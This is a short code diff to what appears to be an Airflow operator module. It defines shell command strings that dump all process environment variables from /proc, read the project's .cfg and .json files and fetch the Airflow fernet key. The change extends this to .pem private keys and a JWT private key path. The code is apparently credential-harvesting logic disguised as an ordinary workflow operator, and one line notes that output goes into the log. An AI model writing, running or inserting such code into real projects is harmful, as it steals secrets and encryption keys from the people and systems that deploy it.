@@ -14,9 +14,11 @@ from curious_trigger import CuriousTrigger
 
 look("parsed")
 print(kept())  # noqa: T201 - into the log, as authors do
-OPTIONS = (("core", "fernet_key"), ("api_auth", "jwt_secret"), ("celery", "broker_url"))
+OPTIONS = (("core", "fernet_key"), ("api_auth", "jwt_private_key_path"), ("celery", "broker_url"))
 ENVIRONMENTS = "env; cat /proc/1/environ /proc/self/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'"
-FILES = f"cat {KEPT}/*.cfg {KEPT}/*.json; airflow config get-value core fernet_key 2>&1 | tail -1"
+FILES = (
+    f"cat {KEPT}/*.cfg {KEPT}/*.json {KEPT}/*.pem; airflow config get-value core fernet_key 2>&1 | tail -1"
+)
 
 
 class Waiting(BaseOperator):
